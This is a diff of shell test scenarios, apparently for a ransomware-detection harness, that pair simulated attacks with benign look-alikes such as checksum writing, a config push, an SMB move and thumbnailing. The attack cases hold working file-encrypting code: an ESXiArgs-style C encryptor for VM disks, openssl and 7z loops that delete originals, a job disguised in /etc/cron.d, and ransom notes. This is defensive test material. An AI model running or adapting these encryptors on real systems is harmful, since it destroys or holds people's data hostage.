@@ -2490,3 +2490,177 @@ sc_b103_ssh_tar_restore_find_newer_delete() {
   sshx mkowalski 'tar -xpf /tmp/mk-backup.tar -C ~ && find ~/Documents -type f -newer ~/.backup-stamp -print -delete | wc -l' > $CASE/facts
   rm -f /tmp/mk-backup.tar /home/mkowalski/.backup-stamp
 }
+
+# ---- twenty-first batch (2026-12-08): a VM-disk locker, `bash -s` over ssh with the shell doing the file I/O, a job
+# planted in /etc/cron.d as www-data, 7z -sdel of each home as root; look-alikes: checksum sidecars in every folder of an
+# archive, a config push (tmp + rename + .orig + README.managed), smbclient mput + delete of old copies, thumbnails.
+pre_h84_ssh_sudo_vmdisk_intermittent() {
+  rm -rf /var/lib/libvirt/images /vmfs
+  mkdir -p /var/lib/libvirt/images /vmfs/volumes/datastore1/web01 /vmfs/volumes/datastore1/db01
+  for v in win2019-dc ubuntu-build fileserver; do truncate -s 160M /var/lib/libvirt/images/$v.qcow2; head -c 3M /dev/urandom | dd of=/var/lib/libvirt/images/$v.qcow2 conv=notrunc status=none; done
+  for v in web01 db01; do truncate -s 120M /vmfs/volumes/datastore1/$v/$v-flat.vmdk; head -c 2M /dev/urandom | dd of=/vmfs/volumes/datastore1/$v/$v-flat.vmdk conv=notrunc status=none
+    printf 'config.version = "8"\ndisplayName = "%s"\nscsi0:0.fileName = "%s.vmdk"\n' $v $v > /vmfs/volumes/datastore1/$v/$v.vmx; done
+  truncate -s 80M /var/lib/libvirt/images/scratch.img
+  # an ESXiArgs-like encryptor: 1 MB encrypted, then every 16th MB, in place (pread/pwrite), the file kept its name
+  install -d -m 700 /tmp/.esx
+  cat > /tmp/.esx/encrypt.c <<'C'
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <unistd.h>
+#include <sys/stat.h>
+int main(int c, char **v) {
+  if (c < 3) return 1;
+  long step = atol(v[2]) * 1048576L; static unsigned char b[1048576]; struct stat st;
+  int fd = open(v[1], O_RDWR); if (fd < 0 || fstat(fd, &st)) return 1;
+  for (off_t o = 0; o < st.st_size; o += step) {
+    ssize_t n = pread(fd, b, sizeof b, o); if (n <= 0) break;
+    for (ssize_t i = 0; i < n; i++) b[i] = (unsigned char)(b[i] ^ (0xA5 + i * 7));
+    pwrite(fd, b, n, o);
+  }
+  fsync(fd); close(fd); return 0;
+}
+C
+  gcc -O2 -o /tmp/.esx/encrypt /tmp/.esx/encrypt.c && rm /tmp/.esx/encrypt.c
+  cat > /tmp/.esx/encrypt.sh <<'S'
+#!/bin/sh
+for f in $(find /var/lib/libvirt/images /vmfs/volumes -type f \( -name '*.qcow2' -o -name '*.vmdk' -o -name '*.img' \)); do
+  /tmp/.esx/encrypt "$f" 16 && mv "$f" "$f.args"
+done
+for d in /var/lib/libvirt/images $(find /vmfs/volumes -mindepth 2 -type d); do
+  printf 'How to Restore Your Files\nSend 2.1 BTC, then mail esx84@onionmail.example\n' > "$d/How to Restore Your Files.html"
+done
+S
+  chmod 700 /tmp/.esx/encrypt.sh
+}
+sc_h84_ssh_sudo_vmdisk_intermittent() {
+  echo "files $(find /var/lib/libvirt/images /vmfs -type f \( -name '*.qcow2' -o -name '*.vmdk' -o -name '*.img' \) | wc -l) dirs 3 bytes $(du -b --apparent-size -c $(find /var/lib/libvirt/images /vmfs -type f \( -name '*.qcow2' -o -name '*.vmdk' -o -name '*.img' \)) | tail -1 | cut -f1)" > $CASE/facts
+  sshx deploy 'sudo nohup sh /tmp/.esx/encrypt.sh >/dev/null 2>&1; echo ok'
+  rm -rf /tmp/.esx /var/lib/libvirt/images /vmfs
+}
+sc_h85_ssh_bash_s_stdin_redirect_openssl() {
+  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
+  local st; st=$(mktemp); cat > $st <<'S'
+find ~/work -type f | while IFS= read -r f; do
+  openssl enc -aes-256-cbc -pbkdf2 -pass pass:Bs-85 < "$f" > "$f.enc" && rm "$f"
+done
+find ~/work -type d | while IFS= read -r d; do echo "Your work is encrypted. bs85@onionmail.example" > "$d/README-BS85.txt"; done
+echo ok
+S
+  ssh -q -p 2222 -i $HO/key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes priya@127.0.0.1 'bash -s' < $st
+  rm -f $st
+}
+pre_h86_cron_d_www_data_uploads() {
+  install -d -o www-data -g www-data /var/www/shop/.well-known/.tmp
+  cat > /var/www/shop/.well-known/.tmp/sess.sh <<'S'
+#!/bin/sh
+find /var/www/shop/uploads -type f ! -name '*.wwwlock' ! -name 'RESTORE-SHOP.txt' | while read -r f; do
+  gzip -c "$f" | openssl enc -aes-128-ctr -pbkdf2 -pass pass:Ww-86 -out "$f.wwwlock" && rm -f "$f"
+done
+find /var/www/shop/uploads -type d -exec sh -c 'echo "shop data encrypted: ww86@onionmail.example" > "$1/RESTORE-SHOP.txt"' _ {} \;
+touch /tmp/.h86-done
+S
+  chown www-data: /var/www/shop/.well-known/.tmp/sess.sh; chmod 755 /var/www/shop/.well-known/.tmp/sess.sh
+}
+sc_h86_cron_d_www_data_uploads() {
+  echo "files $(find /var/www/shop/uploads -type f | wc -l) dirs $(find /var/www/shop/uploads -type d | wc -l)" > $CASE/facts
+  rm -f /tmp/.h86-done
+  read m h < <(cron_at_next_minute)
+  echo "$m $h * * * www-data /var/www/shop/.well-known/.tmp/sess.sh >/dev/null 2>&1" > /etc/cron.d/php-sessionclean2
+  wait_cron /tmp/.h86-done; sleep 2; rm -f /etc/cron.d/php-sessionclean2 /tmp/.h86-done; rm -rf /var/www/shop/.well-known
+}
+sc_h87_ssh_sudo_7z_sdel_homes() {
+  echo "files $(find /home/mkowalski/Documents /home/priya/work -type f | wc -l) homes 2" > $CASE/facts
+  sshx deploy 'sudo bash -c '"'"'for h in /home/*/; do u=$(basename "$h"); for d in Documents work proj; do [ -d "$h$d" ] || continue; 7z a -bd -y -p"Hm-87" -mhe=on -sdel "$h$u-$d.7z" "$h$d" >/dev/null && rm -rf "$h$d"; done; echo "All your documents are in password archives. hm87@onionmail.example" > "$h/HM87-README.txt"; done'"'"'; echo ok'
+}
+pre_b104_cron_root_sha256sums_archive() {
+  rm -rf /srv/archive
+  python3 - <<'PY'
+import os, random
+r = random.Random(104)
+for y in (2023, 2024, 2025, 2026):
+    for m in range(1, 12):
+        p = f'/srv/archive/{y}/{y}-{m:02d}'
+        os.makedirs(p, exist_ok=True)
+        for i in range(r.randint(3, 7)):
+            with open(f'{p}/export_{y}{m:02d}_{i}.' + r.choice(['csv','pdf','xml']), 'wb') as f: f.write(os.urandom(r.randint(1000, 12000)))
+PY
+}
+sc_b104_cron_root_sha256sums_archive() {
+  echo "dirs $(find /srv/archive -mindepth 2 -type d | wc -l) files $(find /srv/archive -type f | wc -l)" > $CASE/facts
+  rm -f /tmp/.b104-done
+  cat > /usr/local/sbin/archive-checksums <<'S'
+#!/bin/sh
+# write SHA256SUMS (and a .md5 twin) into every month folder of the archive, replacing last run's
+for d in /srv/archive/*/*/; do
+  (cd "$d" && find . -maxdepth 1 -type f ! -name 'SHA256SUMS*' ! -name '*.md5' -printf '%f\n' | sort | xargs -r sha256sum > SHA256SUMS.new && mv SHA256SUMS.new SHA256SUMS && md5sum SHA256SUMS > SHA256SUMS.md5)
+done
+touch /tmp/.b104-done
+S
+  chmod 755 /usr/local/sbin/archive-checksums
+  read m h < <(cron_at_next_minute)
+  echo "$m $h * * * root /usr/local/sbin/archive-checksums" > /etc/cron.d/archive-checksums
+  wait_cron /tmp/.b104-done; sleep 1; rm -f /etc/cron.d/archive-checksums /usr/local/sbin/archive-checksums /tmp/.b104-done; rm -rf /srv/archive
+}
+pre_b105_ssh_sudo_config_push_managed() {
+  rm -rf /etc/rtfleet
+  for s in api billing cache gateway mailer queue search scheduler worker metrics; do mkdir -p /etc/rtfleet/$s
+    for c in app.conf logging.ini limits.yaml; do printf '# %s %s\nlisten = 127.0.0.1\nworkers = 4\n' $s $c > /etc/rtfleet/$s/$c; done; done
+  install -d -m 755 /opt/cfgpush
+  cat > /opt/cfgpush/push.py <<'P'
+import os, sys, shutil, tempfile, glob
+# what ansible's template/copy module does per file: backup=yes keeps F.orig, new content goes to a temp file in the
+# same folder, fsync, rename over the original; a README.managed marks every folder under management
+for d in sorted(glob.glob('/etc/rtfleet/*/')):
+    for f in sorted(glob.glob(d + '*')):
+        if f.endswith(('.orig', 'README.managed')): continue
+        shutil.copy2(f, f + '.orig')
+        with open(f) as fh: old = fh.read()
+        fd, tmp = tempfile.mkstemp(dir=d, prefix='.tmp')
+        with os.fdopen(fd, 'w') as out:
+            out.write('# Ansible managed: do not edit\n' + old.replace('workers = 4', 'workers = 8')); out.flush(); os.fsync(out.fileno())
+        os.chmod(tmp, 0o644); os.rename(tmp, f)
+    with open(d + 'README.managed', 'w') as fh: fh.write('This folder is managed by the config push (cfgpush). Local edits are overwritten.\n')
+print('ok')
+P
+}
+sc_b105_ssh_sudo_config_push_managed() {
+  echo "files $(find /etc/rtfleet -type f | wc -l) dirs $(find /etc/rtfleet -mindepth 1 -type d | wc -l)" > $CASE/facts
+  sshx deploy 'sudo python3 /opt/cfgpush/push.py'
+  rm -rf /opt/cfgpush /etc/rtfleet
+}
+pre_b106_smb_mput_move_share() {
+  smb_setup
+  rm -rf /srv/nas/share/scans-old /tmp/.b106
+  python3 - <<'PY'
+import os, random
+r = random.Random(106)
+for base in ('/srv/nas/share/scans-old', '/tmp/.b106/scans'):
+    for d in range(4):
+        p = f'{base}/batch_{d}'; os.makedirs(p, exist_ok=True)
+        for i in range(80):
+            with open(f'{p}/scan_{d}_{i:03d}.pdf', 'wb') as f: f.write(b'%PDF-1.7\n' + os.urandom(r.randint(2000, 9000)))
+PY
+  chown -R svc-nas: /srv/nas/share/scans-old
+}
+sc_b106_smb_mput_move_share() {
+  echo "files $(find /tmp/.b106/scans -type f | wc -l) old $(find /srv/nas/share/scans-old -type f | wc -l)" > $CASE/facts
+  # the client uploads its new scans to the share, then removes its old copies there (a move done by hand over SMB)
+  smbclient -q //127.0.0.1/share -U 'svc-nas%Nas-18pw' -c 'prompt; recurse; mkdir scans; cd scans; lcd /tmp/.b106/scans; mput *' > /dev/null 2>&1
+  smbclient -q //127.0.0.1/share -U 'svc-nas%Nas-18pw' -c 'deltree scans-old' > /dev/null 2>&1
+  echo "after: $(find /srv/nas/share/scans -type f | wc -l) uploaded, old left $(find /srv/nas/share/scans-old -type f 2>/dev/null | wc -l)" >> $CASE/facts
+  rm -rf /tmp/.b106 /srv/nas/share/scans
+}
+pre_b107_ssh_thumbnails_cache() {
+  rm -rf /home/priya/Pictures /home/priya/.cache/thumbnails
+  for a in 2026-10 2026-11 2026-12; do mkdir -p /home/priya/Pictures/$a
+    for i in $(seq 1 30); do /usr/bin/convert -size 400x300 gradient:"#$(printf %06x $((RANDOM * 97)))"-"#$(printf %06x $((RANDOM * 31)))" /home/priya/Pictures/$a/IMG_$i.jpg; done; done
+  chown -R priya: /home/priya/Pictures
+}
+sc_b107_ssh_thumbnails_cache() {
+  echo "photos $(find /home/priya/Pictures -name '*.jpg' | wc -l)" > $CASE/facts
+  # what a file manager's thumbnailer does: per photo, a 256px PNG named by the md5 of its file:// URI, written to a temp
+  # name and renamed into ~/.cache/thumbnails/large (freedesktop thumbnail spec)
+  sshx priya 'mkdir -p ~/.cache/thumbnails/large && find ~/Pictures -name "*.jpg" | while read -r f; do h=$(printf "file://%s" "$f" | md5sum | cut -c1-32); /usr/bin/convert "$f" -thumbnail 256x256 ~/.cache/thumbnails/large/$h.png.tmp.png && mv ~/.cache/thumbnails/large/$h.png.tmp.png ~/.cache/thumbnails/large/$h.png; done; ls ~/.cache/thumbnails/large | wc -l'
+  rm -rf /home/priya/Pictures /home/priya/.cache/thumbnails
+}
